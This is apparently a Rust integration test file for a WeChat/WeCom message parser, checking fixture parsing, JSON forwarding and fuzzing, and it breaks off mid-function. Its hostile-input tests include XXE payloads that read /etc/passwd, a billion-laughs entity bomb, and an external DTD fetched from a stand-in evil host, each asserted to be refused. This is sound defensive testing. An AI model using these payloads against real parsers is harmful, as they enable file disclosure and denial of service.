//! Integration tests of `wx::message`: parsing every documented push kind from fixtures
//! (reference §2.10, §4.11.3, §4.12, §5.3–5.4, Vectors A/B of §1.9), refusing hostile or
//! non-XML input, JSON forwarding, de-duplication keys (peers P3) and passive replies
//! (§2.11, §4.12).

use std::collections::{BTreeMap, HashMap};
use std::path::{Path, PathBuf};

use proptest::prelude::*;
use serde_json::{Value, json};
use wx::message::{
    Article, ContactChange, DedupFamily, ExternalContactChange, Inbound, KfSessionAction, Message,
    Music, ParseError, PicSource, Platform, Reply, ReplyError, ReplyLimits, ReplyTo, XmlDoc,
    XmlError, split_list,
};

fn fixtures_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures")
}

fn fixture(name: &str) -> String {
    let path = fixtures_dir().join(name);
    std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

fn parse(name: &str) -> Message {
    Message::parse(&fixture(name)).unwrap_or_else(|e| panic!("{name}: {e}"))
}

/// All `*.xml` files under `dir` (relative to the fixtures directory), sorted.
fn xml_files(dir: &str) -> Vec<PathBuf> {
    let mut out = Vec::new();
    let mut stack = vec![fixtures_dir().join(dir)];
    while let Some(d) = stack.pop() {
        for entry in std::fs::read_dir(&d).unwrap() {
            let p = entry.unwrap().path();
            if p.is_dir() {
                stack.push(p);
            } else if p.extension().is_some_and(|e| e == "xml") {
                out.push(p);
            }
        }
    }
    out.sort();
    out
}

// ---------------------------------------------------------------- Official Account messages

#[test]
fn oa_text_message() {
    let m = parse("oa/text.xml");
    let h = m.header();
    assert_eq!(h.to_user_name, Some("gh_7f083739789a"));
    assert_eq!(h.from_user_name, Some("oia2TjuEGTNoeX76QEjQNrcURxG8"));
    assert_eq!(h.create_time, Some(1395658920));
    assert_eq!(h.msg_type, Some("text"));
    assert_eq!(h.agent_id, None);
    let Inbound::Text(t) = m.kind() else {
        panic!("{:?}", m.kind())
    };
    assert_eq!(t.content, "你好，桥 🌉 a<b>&c");
    assert_eq!(t.msg_id, Some("24474736178236541"));
    assert_eq!(t.msg_data_id, None);
    assert_eq!(m.dedup_family(), DedupFamily::Message);

    let m = parse("oa/text_from_article.xml");
    let Inbound::Text(t) = m.kind() else { panic!() };
    assert_eq!(t.msg_data_id, Some("2247483652"));
    assert_eq!(t.idx, Some("1"));
}

#[test]
fn oa_media_messages() {
    let m = parse("oa/image.xml");
    let Inbound::Image(i) = m.kind() else {
        panic!()
    };
    assert_eq!(i.pic_url, Some("http://mmbiz.qpic.cn/mmbiz_jpg/x/0"));
    assert_eq!(i.media_id, Some("media_id_image_1"));
    assert_eq!(i.msg_id, Some("24474736178236543"));

    let m = parse("oa/voice.xml");
    let Inbound::Voice(v) = m.kind() else {
        panic!()
    };
    assert_eq!(v.format, Some("amr"));
    assert_eq!(v.recognition, Some("腾讯微信团队"));
    assert_eq!(v.media_id_16k, Some("media_id_voice_16k"));

    let m = parse("oa/video.xml");
    let Inbound::Video(v) = m.kind() else {
        panic!()
    };
    assert_eq!(v.thumb_media_id, Some("thumb_video_1"));

    let m = parse("oa/shortvideo.xml");
    let Inbound::ShortVideo(v) = m.kind() else {
        panic!()
    };
    assert_eq!(v.media_id, Some("media_id_short_1"));

    let m = parse("oa/location.xml");
    let Inbound::Location(l) = m.kind() else {
        panic!()
    };
    assert_eq!(l.latitude, Some(23.134521));
    assert_eq!(l.longitude, Some(113.358803));
    assert_eq!(l.scale, Some(20.0));
    assert_eq!(l.label, Some("广州市天河区"));
    // The raw text keeps every digit for forwarding.
    assert_eq!(m.to_json()["Location_X"], "23.134521");

    let m = parse("oa/link.xml");
    let Inbound::Link(l) = m.kind() else { panic!() };
    assert_eq!(l.url, Some("https://mp.weixin.qq.com/"));
    assert_eq!(l.title, Some("公众平台官网链接"));
}

// ---------------------------------------------------------------- Official Account events

#[test]
fn oa_follow_and_scan_events() {
    let m = parse("oa/event_subscribe.xml");
    let Inbound::Subscribe(s) = m.kind() else {
        panic!()
    };
    assert_eq!(s.event_key, Some(""));
    assert_eq!(s.qr_scene(), None);
    assert_eq!(s.ticket, None);

    let m = parse("oa/event_subscribe_qrscene.xml");
    let Inbound::Subscribe(s) = m.kind() else {
        panic!()
    };
    assert_eq!(s.event_key, Some("qrscene_123123"));
    assert_eq!(s.qr_scene(), Some("123123"));
    assert!(s.ticket.unwrap().starts_with("gQH47joAAAAAAAAAASxodHRw"));

    assert_eq!(
        parse("oa/event_unsubscribe.xml").kind(),
        Inbound::Unsubscribe
    );

    let m = parse("oa/event_scan.xml");
    let Inbound::Scan(s) = m.kind() else { panic!() };
    assert_eq!(s.scene, Some("123123"));
    assert!(s.ticket.is_some());
    assert_eq!(m.dedup_family(), DedupFamily::UserEvent);
}

#[test]
fn oa_menu_and_location_events() {
    let m = parse("oa/event_location.xml");
    let Inbound::LocationReport(l) = m.kind() else {
        panic!()
    };
    assert_eq!(l.latitude, Some(23.137466));
    assert_eq!(l.precision, Some(119.38504));

    let m = parse("oa/event_click.xml");
    let Inbound::Click(c) = m.kind() else {
        panic!()
    };
    assert_eq!(c.event_key, Some("V1001_TODAY_MUSIC"));

    let m = parse("oa/event_view.xml");
    let Inbound::View(v) = m.kind() else { panic!() };
    assert_eq!(v.target, Some("https://www.example.com/?a=1&b=2"));
    assert_eq!(v.menu_id, Some("1"));

    let m = parse("oa/event_view_miniprogram.xml");
    let Inbound::ViewMiniProgram(v) = m.kind() else {
        panic!()
    };
    assert_eq!(v.target, Some("pages/index/index"));

    let m = parse("oa/event_scancode_waitmsg.xml");
    let Inbound::ScanCode(s) = m.kind() else {
        panic!()
    };
    assert!(s.wait_msg);
    assert_eq!(s.scan_type, Some("qrcode"));
    assert_eq!(s.scan_result, Some("2"));

    let m = parse("oa/event_pic_photo_or_album.xml");
    let Inbound::Pic(p) = m.kind() else { panic!() };
    assert_eq!(p.source, PicSource::PhotoOrAlbum);
    assert_eq!(p.count, Some(2));
    assert_eq!(
        p.pic_md5_sums,
        [
            "5a75aaca956d97be686719218f275c6b",
            "1b5f7c23b5bf75682a53e7b6d163e185"
        ]
    );

    let m = parse("oa/event_location_select.xml");
    let Inbound::LocationSelect(l) = m.kind() else {
        panic!()
    };
    assert_eq!(l.latitude, Some(23.0));
    assert_eq!(l.label, Some(" 广州市海珠区客村艺苑路 106号"));
    assert_eq!(l.poiname, Some(""));
}

#[test]
fn oa_job_and_subscription_events() {
    // The reference §2.10 example: note `MsgID` with a capital D.
    let m = parse("oa/event_templatesendjobfinish.xml");
    let Inbound::TemplateSendJobFinish(t) = m.kind() else {
        panic!()
    };
    assert_eq!(t.msg_id, Some("200163836"));
    assert!(t.is_success());
    assert_eq!(m.get("MsgID"), Some("200163836"));
    assert_eq!(m.get("MsgId"), None, "element names are case-sensitive");

    let m = parse("oa/event_masssendjobfinish.xml");
    let Inbound::MassSendJobFinish(j) = m.kind() else {
        panic!()
    };
    assert_eq!(
        (j.total_count, j.filter_count, j.sent_count, j.error_count),
        (Some(100), Some(80), Some(75), Some(5))
    );

    let m = parse("oa/event_subscribe_msg_popup.xml");
    let Inbound::SubscribeMsgPopup(p) = m.kind() else {
        panic!()
    };
    assert_eq!(p.items.len(), 2);
    assert_eq!(
        p.items[0].template_id,
        Some("VRR0UEO9VJOLs0MHlU0OilqX6MVFDwH3_3gz3Oc0NIc")
    );
    assert_eq!(p.items[0].subscribe_status, Some("accept"));
    assert_eq!(p.items[1].subscribe_status, Some("reject"));
    assert_eq!(p.items[1].popup_scene, Some("2"));

    let m = parse("oa/event_subscribe_msg_change.xml");
    let Inbound::SubscribeMsgChange(c) = m.kind() else {
        panic!()
    };
    assert_eq!(c.items.len(), 1);
    assert_eq!(c.items[0].subscribe_status, Some("reject"));
    // A single List still forwards as an array (stable JSON shape).
    assert!(m.to_json()["SubscribeMsgChangeEvent"]["List"].is_array());

    let m = parse("oa/event_subscribe_msg_sent.xml");
    let Inbound::SubscribeMsgSent(s) = m.kind() else {
        panic!()
    };
    assert_eq!(s.items[0].msg_id, Some("1700827132819554304"));
    assert_eq!(s.items[0].error_code, Some(0));
    assert_eq!(s.items[0].error_status, Some("success"));

    let m = parse("oa/event_user_enter_tempsession.xml");
    let Inbound::UserEnterTempSession(t) = m.kind() else {
        panic!()
    };
    assert_eq!(t.session_from, Some("order-1024"));

    let m = parse("oa/event_kf_switch_session.xml");
    let Inbound::KfSession(k) = m.kind() else {
        panic!()
    };
    assert_eq!(k.action, KfSessionAction::Switch);
    assert_eq!(k.from_kf_account, Some("test1@test"));
    assert_eq!(k.to_kf_account, Some("test2@test"));
}

// ---------------------------------------------------------------- WeCom

#[test]
fn wecom_vector_b_plaintext_without_cdata() {
    let raw = fixture("wecom/vector_b_text.xml");
    // Exactly the 228-byte plaintext of reference §1.9 Vector B.
    assert_eq!(raw.len(), 228);
    let m = Message::parse(&raw).unwrap();
    let Inbound::Text(t) = m.kind() else { panic!() };
    assert_eq!(t.content, "你好");
    assert_eq!(t.msg_id, Some("1456453720"));
    let h = m.header();
    assert_eq!(h.to_user_name, Some("ww1436e0e65a779aee"));
    assert_eq!(h.from_user_name, Some("ChenJiaShun"));
    assert_eq!(h.create_time, Some(1476422779));
    assert_eq!(h.agent_id, Some(1000002));
    assert_eq!(
        m.to_json(),
        json!({"ToUserName": "ww1436e0e65a779aee", "FromUserName": "ChenJiaShun",
               "CreateTime": "1476422779", "MsgType": "text", "Content": "你好",
               "MsgId": "1456453720", "AgentID": "1000002"})
    );
}

#[test]
fn wecom_vector_a_plaintext_with_newlines() {
    let m = parse("wecom/vector_a_text.xml");
    let Inbound::Text(t) = m.kind() else { panic!() };
    assert_eq!(t.content, "hello");
    assert_eq!(t.msg_id, Some("4561255354251345929"));
    assert_eq!(m.header().agent_id, Some(218));
    assert_eq!(m.doc().fields().count(), 7);
}

#[test]
fn wecom_messages() {
    let m = parse("wecom/image.xml");
    let Inbound::Image(i) = m.kind() else {
        panic!()
    };
    assert_eq!(i.media_id, Some("media_img"));
    let m = parse("wecom/voice.xml");
    let Inbound::Voice(v) = m.kind() else {
        panic!()
    };
    assert_eq!(v.format, Some("amr"));
    let m = parse("wecom/video.xml");
    let Inbound::Video(v) = m.kind() else {
        panic!()
    };
    assert_eq!(v.thumb_media_id, Some("thumb_video"));
    let m = parse("wecom/location.xml");
    let Inbound::Location(l) = m.kind() else {
        panic!()
    };
    assert_eq!(l.app_type, Some("wxwork"));
    assert_eq!(l.label, Some("位置信息"));
    let m = parse("wecom/link.xml");
    let Inbound::Link(l) = m.kind() else { panic!() };
    assert_eq!(l.pic_url, Some("https://wework.qpic.cn/p"));
    assert_eq!(m.header().agent_id, Some(1000002));
}

#[test]
fn wecom_app_events() {
    assert!(matches!(
        parse("wecom/event_subscribe.xml").kind(),
        Inbound::Subscribe(_)
    ));
    let m = parse("wecom/event_enter_agent.xml");
    let Inbound::EnterAgent(e) = m.kind() else {
        panic!()
    };
    assert_eq!(e.event_key, Some(""));
    // WeCom spells menu events in lower case.
    let m = parse("wecom/event_click.xml");
    let Inbound::Click(c) = m.kind() else {
        panic!()
    };
    assert_eq!(c.event_key, Some("approve_menu"));
    let m = parse("wecom/event_view.xml");
    let Inbound::View(v) = m.kind() else { panic!() };
    assert_eq!(v.target, Some("https://example.com/app"));
    let m = parse("wecom/event_location.xml");
    let Inbound::LocationReport(l) = m.kind() else {
        panic!()
    };
    assert_eq!(l.app_type, Some("wxwork"));
    assert_eq!(l.longitude, Some(113.320107));
}

#[test]
fn wecom_template_card_events() {
    // Reference §4.11.3 example.
    let m = parse("wecom/event_template_card.xml");
    let Inbound::TemplateCard(c) = m.kind() else {
        panic!()
    };
    assert!(!c.menu);
    assert_eq!(c.event_key, Some("approve"));
    assert_eq!(c.task_id, Some("bridge-42-1700000000"));
    assert_eq!(c.card_type, Some("button_interaction"));
    assert_eq!(c.response_code, Some("ResponseCode_xxx"));
    assert_eq!(c.selected_items.len(), 1);
    assert_eq!(c.selected_items[0].question_key, Some("q1"));
    assert_eq!(c.selected_items[0].option_ids, ["opt1"]);
    assert_eq!(m.header().agent_id, Some(1000002));
    let j = m.to_json();
    assert_eq!(
        j["SelectedItems"]["SelectedItem"][0]["OptionIds"]["OptionId"],
        json!(["opt1"])
    );

    let m = parse("wecom/event_template_card_vote.xml");
    let Inbound::TemplateCard(c) = m.kind() else {
        panic!()
    };
    assert_eq!(c.selected_items.len(), 2);
    assert_eq!(c.selected_items[0].option_ids, ["noodles", "rice"]);
    assert_eq!(c.selected_items[1].question_key, Some("drink"));
    assert_eq!(c.selected_items[1].option_ids, ["tea"]);

    let m = parse("wecom/event_template_card_menu.xml");
    let Inbound::TemplateCard(c) = m.kind() else {
        panic!()
    };
    assert!(c.menu);
    assert_eq!(c.event_key, Some("mute"));
    assert!(c.selected_items.is_empty());
}

#[test]
fn wecom_change_contact_every_change_type() {
    let m = parse("wecom/change_contact_create_user.xml");
    assert_eq!(m.header().from_user_name, Some("sys"));
    assert_eq!(m.dedup_family(), DedupFamily::SystemEvent);
    let Inbound::ChangeContact(e) = m.kind() else {
        panic!()
    };
    assert_eq!(e.auth_corp_id, None);
    let ContactChange::CreateUser(u) = e.change else {
        panic!()
    };
    assert_eq!(u.user_id, Some("zhangsan"));
    assert_eq!(u.name, Some("张三"));
    assert_eq!(u.departments().collect::<Vec<_>>(), ["1", "2", "3"]);
    assert_eq!(u.main_department, Some("1"));
    assert_eq!(u.is_leader_in_dept, Some("1,0,0"));
    assert_eq!(u.direct_leader, Some("lisi,wangwu"));
    assert_eq!(u.position, Some("产品经理"));
    assert_eq!(u.mobile, Some("13800000000"));
    assert_eq!(u.gender, Some("1"));
    assert_eq!(u.email, Some("zhangsan@gzdev.com"));
    assert_eq!(u.biz_mail, Some("zhangsan@qyycs2.wecom.work"));
    assert_eq!(u.status, Some("1"));
    assert!(u.avatar.unwrap().starts_with("http://wx.qlogo.cn/"));
    assert_eq!(u.alias, Some("zhangsan"));
    assert_eq!(u.telephone, Some("020-123456"));
    assert_eq!(u.address, Some("广州市"));
    assert_eq!(u.ext_attr.len(), 2);
    assert_eq!(u.ext_attr[0].name, Some("爱好"));
    assert_eq!(u.ext_attr[0].text, Some("旅游"));
    assert_eq!(u.ext_attr[1].attr_type, Some("1"));
    assert_eq!(u.ext_attr[1].web_url, Some("https://work.weixin.qq.com"));

    let m = parse("wecom/change_contact_update_user.xml");
    let Inbound::ChangeContact(e) = m.kind() else {
        panic!()
    };
    let ContactChange::UpdateUser(u) = e.change else {
        panic!()
    };
    assert_eq!(u.user_id, Some("zhangsan"));
    assert_eq!(u.new_user_id, Some("zhangsan001"));
    assert_eq!(u.name, Some("张三丰"));
    // Only changed fields are present.
    assert_eq!(u.mobile, None);
    assert_eq!(u.position, None);
    assert!(u.ext_attr.is_empty());

    let m = parse("wecom/change_contact_delete_user.xml");
    let Inbound::ChangeContact(e) = m.kind() else {
        panic!()
    };
    let ContactChange::DeleteUser(u) = e.change else {
        panic!()
    };
    assert_eq!(u.user_id, Some("zhangsan"));
    assert_eq!(u.name, None);

    let m = parse("wecom/change_contact_create_party.xml");
    let Inbound::ChangeContact(e) = m.kind() else {
        panic!()
    };
    let ContactChange::CreateParty(p) = e.change else {
        panic!()
    };
    assert_eq!(
        (p.id, p.name, p.parent_id, p.order),
        (Some("2"), Some("研发部"), Some("1"), Some("1"))
    );

    let m = parse("wecom/change_contact_update_party.xml");
    let Inbound::ChangeContact(e) = m.kind() else {
        panic!()
    };
    let ContactChange::UpdateParty(p) = e.change else {
        panic!()
    };
    assert_eq!(p.name, Some("研发中心"));
    assert_eq!(p.order, None);

    let m = parse("wecom/change_contact_delete_party.xml");
    let Inbound::ChangeContact(e) = m.kind() else {
        panic!()
    };
    let ContactChange::DeleteParty(p) = e.change else {
        panic!()
    };
    assert_eq!(p.id, Some("2"));

    let m = parse("wecom/change_contact_update_tag.xml");
    let Inbound::ChangeContact(e) = m.kind() else {
        panic!()
    };
    let ContactChange::UpdateTag(t) = e.change else {
        panic!()
    };
    assert_eq!(t.tag_id, Some("1"));
    assert_eq!(
        split_list(t.add_user_items.unwrap()).collect::<Vec<_>>(),
        ["zhangsan", "lisi"]
    );
    assert_eq!(t.del_user_items, Some("zhangsan1,lisi1"));
    assert_eq!(t.add_party_items, Some("1,2"));
    assert_eq!(t.del_party_items, Some("3,4"));
}

#[test]
fn wecom_change_external_contact_every_change_type() {
    let cases = [
        (
            "add_external_contact",
            ExternalContactChange::AddExternalContact,
        ),
        (
            "add_half_external_contact",
            ExternalContactChange::AddHalfExternalContact,
        ),
        (
            "edit_external_contact",
            ExternalContactChange::EditExternalContact,
        ),
        (
            "del_external_contact",
            ExternalContactChange::DelExternalContact,
        ),
        ("del_follow_user", ExternalContactChange::DelFollowUser),
        ("transfer_fail", ExternalContactChange::TransferFail),
        (
            "msg_audit_approved",
            ExternalContactChange::MsgAuditApproved,
        ),
    ];
    for (name, want) in cases {
        let m = parse(&format!("wecom/change_external_contact_{name}.xml"));
        let Inbound::ChangeExternalContact(e) = m.kind() else {
            panic!("{name}")
        };
        assert_eq!(e.change, want);
        assert_eq!(e.user_id, Some("zhangsan"));
        assert_eq!(e.external_user_id, Some("woAJ2GCAAAXtWyujaWJHDDGi0mACAAAA"));
        match want {
            ExternalContactChange::AddExternalContact => {
                assert_eq!(e.state, Some("teststate"));
                assert_eq!(e.welcome_code, Some("WELCOMECODE"));
            }
            ExternalContactChange::DelExternalContact => {
                assert_eq!(e.source, Some("DELETE_BY_TRANSFER"))
            }
            ExternalContactChange::TransferFail => {
                assert_eq!(e.fail_reason, Some("customer_refused"))
            }
            ExternalContactChange::MsgAuditApproved => {
                assert_eq!(e.welcome_code, Some("WELCOMECODE3"))
            }
            _ => {}
        }
    }

    let m = parse("wecom/change_external_chat.xml");
    let Inbound::ChangeExternalChat(c) = m.kind() else {
        panic!()
    };
    assert_eq!(c.update_detail, Some("add_member"));
    assert_eq!(c.join_scene, Some(1));
    assert_eq!(c.mem_change_cnt, Some(10));

    let m = parse("wecom/change_external_tag.xml");
    let Inbound::ChangeExternalTag(t) = m.kind() else {
        panic!()
    };
    assert_eq!(t.tag_type, Some("tag"));
    assert_eq!(t.change_type, Some("create"));
    assert_eq!(t.strategy_id, Some("1"));
}

#[test]
fn wecom_approval_and_batch_job() {
    let m = parse("wecom/sys_approval_change.xml");
    let Inbound::SysApprovalChange(a) = m.kind() else {
        panic!()
    };
    assert_eq!(a.sp_no, Some("202311010001"));
    assert_eq!(a.sp_name, Some("请假"));
    assert_eq!(a.sp_status, Some(1));
    assert_eq!(a.apply_time, Some(1698800000));
    assert_eq!(a.applyer, Some("zhangsan"));
    assert_eq!(a.applyer_party, Some("1"));
    assert_eq!(a.statu_change_event, Some(2));
    assert_eq!(a.records.len(), 2);
    assert_eq!(a.records[0].details[0].approver, Some("lisi"));
    assert_eq!(a.records[0].details[0].speech, Some("同意"));
    assert_eq!(a.records[1].approver_attr, Some(2));
    assert_eq!(a.records[1].details.len(), 2);
    assert_eq!(a.records[1].details[1].approver, Some("zhaoliu"));
    assert_eq!(a.notifyers, ["qianqi", "sunba"]);
    let j = m.to_json();
    assert_eq!(j["ApprovalInfo"]["SpRecord"].as_array().unwrap().len(), 2);
    assert_eq!(j["ApprovalInfo"]["Notifyer"][1]["UserId"], "sunba");

    let m = parse("wecom/event_batch_job_result.xml");
    let Inbound::BatchJobResult(b) = m.kind() else {
        panic!()
    };
    assert_eq!(b.job_type, Some("sync_user"));
    assert_eq!(b.err_code, Some(0));
    assert_eq!(b.err_msg, Some("ok"));
    assert!(b.job_id.unwrap().starts_with("S0Mrnndv"));
}

// ---------------------------------------------------------------- Suite commands

#[test]
fn suite_command_events() {
    let m = parse("suite/suite_ticket.xml");
    assert!(m.is_suite_command());
    assert_eq!(m.dedup_family(), DedupFamily::SuiteCommand);
    let Inbound::SuiteTicket(t) = m.kind() else {
        panic!()
    };
    assert_eq!(t.suite_id, Some("ww4asffe99e54c0fxxxx"));
    assert_eq!(t.suite_ticket, Some("asdfasfdasdfasdf"));
    assert_eq!(t.timestamp, Some(1403610513));
    assert_eq!(m.header().info_type, Some("suite_ticket"));

    let m = parse("suite/create_auth.xml");
    let Inbound::CreateAuth(a) = m.kind() else {
        panic!()
    };
    assert_eq!(a.auth_code, Some("AUTHCODE"));
    assert_eq!(a.state, Some("123"));
    assert_eq!(a.extra_info, Some(""));

    let m = parse("suite/change_auth.xml");
    let Inbound::ChangeAuth(a) = m.kind() else {
        panic!()
    };
    assert_eq!(a.auth_corp_id, Some("wxf8b4f85f3a794e77"));
    assert_eq!(a.state, Some("abc"));

    let m = parse("suite/cancel_auth.xml");
    let Inbound::CancelAuth(a) = m.kind() else {
        panic!()
    };
    assert_eq!(a.auth_corp_id, Some("wxf8b4f85f3a794e77"));

    let m = parse("suite/reset_permanent_code.xml");
    let Inbound::ResetPermanentCode(a) = m.kind() else {
        panic!()
    };
    assert_eq!(a.auth_code, Some("RESETCODE"));

    let m = parse("suite/change_contact_create_user.xml");
    let Inbound::ChangeContact(e) = m.kind() else {
        panic!()
    };
    assert_eq!(e.auth_corp_id, Some("wxf8b4f85f3a794e77"));
    let ContactChange::CreateUser(u) = e.change else {
        panic!()
    };
    assert_eq!(u.open_user_id, Some("woAAAAzhangsan"));
    assert_eq!(u.departments().count(), 3);

    let m = parse("suite/change_external_contact.xml");
    let Inbound::ChangeExternalContact(e) = m.kind() else {
        panic!()
    };
    assert_eq!(e.change, ExternalContactChange::DelFollowUser);
    assert_eq!(e.auth_corp_id, Some("wxf8b4f85f3a794e77"));
}

// ---------------------------------------------------------------- Unknown kinds keep everything

#[test]
fn unknown_kinds_preserve_every_field() {
    let m = parse("oa/unknown_event.xml");
    let Inbound::Unknown(u) = m.kind() else {
        panic!()
    };
    assert_eq!(u.msg_type, Some("event"));
    assert_eq!(u.event, Some("wxa_media_check"));
    assert_eq!(m.dedup_family(), DedupFamily::Unknown);
    assert_eq!(
        m.to_json(),
        json!({
            "ToUserName": "gh_7f083739789a",
            "FromUserName": "oia2TjuEGTNoeX76QEjQNrcURxG8",
            "CreateTime": "1395658920",
            "MsgType": "event",
            "Event": "wxa_media_check",
            "isrisky": "0",
            "extra_info_json": "",
            "appid": "wxa2e4f7b8d8b0f8ab",
            "trace_id": "967e945cd8a3e458f3c74dcb886068e9",
            "status_code": "0",
            "result": {"suggest": "pass", "label": "100"},
            "detail": [
                {"strategy": "content_model", "errcode": "0", "suggest": "pass", "label": "100", "prob": "90"},
                {"strategy": "keyword", "errcode": "0", "suggest": "pass", "label": "100", "level": "20"}
            ]
        })
    );
    // Order is kept in the document (and in the streaming serializer).
    let names: Vec<&str> = m.doc().fields().map(|e| e.name()).collect();
    assert_eq!(
        names,
        [
            "ToUserName",
            "FromUserName",
            "CreateTime",
            "MsgType",
            "Event",
            "isrisky",
            "extra_info_json",
            "appid",
            "trace_id",
            "status_code",
            "result",
            "detail",
            "detail"
        ]
    );
    let streamed = serde_json::to_string(&m).unwrap();
    assert!(streamed.starts_with(r#"{"ToUserName":"gh_7f083739789a","FromUserName""#));
    assert_eq!(
        serde_json::from_str::<Value>(&streamed).unwrap(),
        m.to_json()
    );

    let m = parse("wecom/unknown_msgtype.xml");
    let Inbound::Unknown(u) = m.kind() else {
        panic!()
    };
    assert_eq!(u.msg_type, Some("mixed"));
    let j = m.to_json();
    assert_eq!(j["MixedMessage"]["MsgItem"][0]["Text"]["Content"], "段落");
    assert_eq!(
        j["MixedMessage"]["MsgItem"][1]["Image"]["Url"],
        "https://x/y"
    );
    assert_eq!(j["AgentID"], "1000002");

    let m = parse("wecom/unknown_event.xml");
    let Inbound::Unknown(u) = m.kind() else {
        panic!()
    };
    assert_eq!(u.event, Some("living_status_change"));
    assert_eq!(m.get("LivingId"), Some("lvOQpQDgAAbc"));

    let m = parse("suite/unknown_info_type.xml");
    let Inbound::Unknown(u) = m.kind() else {
        panic!()
    };
    assert_eq!(u.info_type, Some("license_pay_success"));
    assert_eq!(m.to_json()["OrderId"], "OI0001");
}

/// Every element of every fixture shows up in the JSON with its exact text.
#[test]
fn json_keeps_every_leaf_of_every_fixture() {
    fn leaves(v: &Value, path: String, out: &mut Vec<(String, String)>) {
        match v {
            Value::String(s) => out.push((path, s.clone())),
            Value::Array(items) => items.iter().for_each(|i| leaves(i, path.clone(), out)),
            Value::Object(m) => m
                .iter()
                .for_each(|(k, v)| leaves(v, format!("{path}/{k}"), out)),
            other => panic!("unexpected JSON {other}"),
        }
    }
    let mut count = 0;
    for path in xml_files("") {
        let doc = XmlDoc::parse(&std::fs::read_to_string(&path).unwrap()).unwrap();
        let mut from_doc: Vec<(String, String)> = Vec::new();
        let mut stack: Vec<String> = Vec::new();
        for (depth, e) in doc.root().descendants().skip(1) {
            stack.truncate(depth - 1);
            stack.push(e.name().to_owned());
            if !e.has_children() {
                from_doc.push((format!("/{}", stack.join("/")), e.text().to_owned()));
            }
        }
        let mut from_json = Vec::new();
        leaves(
            &wx::message::json::doc_to_value(&doc),
            String::new(),
            &mut from_json,
        );
        from_doc.sort();
        from_json.sort();
        assert_eq!(from_doc, from_json, "{}", path.display());
        count += 1;
    }
    assert!(count > 100, "only {count} fixtures");
}

#[test]
fn every_kind_fixture_parses_to_its_kind() {
    let mut seen = 0;
    for dir in ["oa", "wecom", "suite"] {
        for path in xml_files(dir) {
            let name = path.file_name().unwrap().to_string_lossy().into_owned();
            let m = Message::parse(&std::fs::read_to_string(&path).unwrap())
                .unwrap_or_else(|e| panic!("{name}: {e}"));
            let unknown = matches!(m.kind(), Inbound::Unknown(_));
            assert_eq!(
                unknown,
                name.starts_with("unknown"),
                "{name}: {:?}",
                m.kind()
            );
            seen += 1;
        }
    }
    assert!(seen >= 65, "{seen}");
}

// ---------------------------------------------------------------- Hostile and non-XML input

#[test]
fn doctype_and_entity_payloads_are_refused() {
    let xxe = r#"<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<xml><ToUserName>gh_1</ToUserName><MsgType>text</MsgType><Content>&xxe;</Content></xml>"#;
    assert_eq!(
        Message::parse(xxe).unwrap_err(),
        ParseError::Xml(XmlError::Doctype)
    );

    let laughs = r#"<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>
<xml><MsgType>text</MsgType><Content>&lol2;</Content></xml>"#;
    assert_eq!(
        Message::parse(laughs).unwrap_err(),
        ParseError::Xml(XmlError::Doctype)
    );

    let param = r#"<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><xml><MsgType>text</MsgType></xml>"#;
    assert!(Message::parse(param).is_err());

    // An entity reference without any DTD is refused too (never silently dropped).
    let undeclared = "<xml><MsgType>text</MsgType><Content>&xxe;</Content></xml>";
    assert_eq!(
        Message::parse(undeclared).unwrap_err(),
        ParseError::Xml(XmlError::Entity("xxe".into()))
    );
    // The five predefined entities and character references are fine.
    let ok = "<xml><MsgType>text</MsgType><Content>&lt;&gt;&amp;&apos;&quot;&#20320;&#x597D;</Content></xml>";
    let m = Message::parse(ok).unwrap();
    let Inbound::Text(t) = m.kind() else { panic!() };
    assert_eq!(t.content, "<>&'\"你好");
}

#[test]
fn garbage_is_refused_with_an_error() {
    let cases: &[&[u8]] = &[
        b"",
        b"   ",
        b"success",
        b"{\"errcode\":0}",
        b"<xml>",
        b"<xml><Content>x</xml>",
        b"<<<>>>",
        b"<xml></xml><xml></xml>",
        b"<html><body>502 Bad Gateway</body></html>",
        b"\xff\xfe<\x00x\x00",
        b"<xml><MsgType>text</MsgType>",
        b"<xml>\x00</xml>",
    ];
    for c in cases {
        assert!(
            Message::parse_bytes(c).is_err(),
            "accepted {:?}",
            String::from_utf8_lossy(c)
        );
    }
    // Well-formed XML without MsgType/InfoType is not a push.
    assert_eq!(
        Message::parse("<xml><A>1</A></xml>").unwrap_err(),
        ParseError::NotAPush
    );
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 2000, ..ProptestConfig::default() })]

    #[test]
    fn arbitrary_bytes_never_panic(bytes in proptest::collection::vec(any::<u8>(), 0..512)) {
        exercise(&bytes);
    }

    /// Inputs assembled from XML-ish fragments reach much deeper into the parser than random
    /// bytes do.
    #[test]
    fn xml_like_inputs_never_panic(parts in proptest::collection::vec(prop_oneof![
        Just("<xml>"), Just("</xml>"), Just("<MsgType>"), Just("</MsgType>"), Just("event"),
        Just("text"), Just("<Event>"), Just("</Event>"), Just("change_contact"), Just("<![CDATA["),
        Just("]]>"), Just("&amp;"), Just("&#x0;"), Just("&#xD800;"), Just("&bogus;"), Just("<"),
        Just(">"), Just("/>"), Just("<a/>"), Just("<List>"), Just("</List>"), Just("<!--"),
        Just("-->"), Just("<?xml version=\"1.0\"?>"), Just("<!DOCTYPE x>"), Just("中"), Just("\u{feff}"),
        Just("<InfoType>"), Just("</InfoType>"), Just("suite_ticket"), Just(" "), Just("\n"),
        Just("<SelectedItems><SelectedItem>"), Just("</SelectedItem></SelectedItems>"),
        Just("<ChangeType>create_user</ChangeType>"), Just("<AgentID>"), Just("</AgentID>"),
        Just("99999999999999999999"), Just("<ExtAttr><Item>"), Just("</Item></ExtAttr>"),
    ], 0..40)) {
        let s: String = parts.concat();
        exercise(s.as_bytes());
    }
}

/// Parses and, when accepted, runs every accessor.
fn exercise(bytes: &[u8]) {
    let _ = XmlDoc::parse_bytes(bytes);
    if let Ok(m) = Message::parse_bytes(bytes) {
        let _ = m.kind();
        let _ = m.header();
        let _ = m.to_json();
        let _ = serde_json::to_string(&m);
        let key = m.dedup_key();
